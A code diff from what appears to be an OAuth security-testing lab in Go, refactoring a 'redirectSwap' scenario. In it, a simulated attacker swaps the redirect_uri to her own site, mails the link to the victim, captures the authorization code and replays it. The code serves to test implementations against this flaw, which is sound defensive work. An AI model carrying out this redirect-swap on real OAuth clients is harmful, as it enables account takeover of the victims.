@@ -23,25 +23,18 @@ func redirectSwap() Attack {
 			if err != nil {
 				return err
 			}
-			swapped, err := url.Parse(request)
-			if err != nil {
-				return err
-			}
-			q := swapped.Query()
-			q.Set("redirect_uri", s.Lab.Origins.MallorySite(s.Lab.ID))
-			swapped.RawQuery = q.Encode()
-			if err := s.mail(ctx, swapped.String()); err != nil {
+			if err := s.mail(ctx, swapped(request, "redirect_uri", s.Lab.Origins.MallorySite(s.Lab.ID))); err != nil {
 				return err
 			}
 			arrived, err := s.Alice.SignInHere(ctx)
 			if err != nil || parameter(arrived, "code") == "" {
 				return err
 			}
-			answer := url.Values{"code": {parameter(arrived, "code")}}
-			if state := parameter(arrived, "state"); state != "" {
-				answer.Set("state", state)
+			answer, err := url.Parse(arrived)
+			if err != nil {
+				return err
 			}
-			return s.Mallory.Finish(ctx, s.Lab.Origins.RedirectURI()+"?"+answer.Encode())
+			return s.Mallory.Finish(ctx, s.Lab.Origins.RedirectURI()+"?"+answer.RawQuery)
 		},
 		Harm: clientTook(malloryOf, "alice"),
 	}
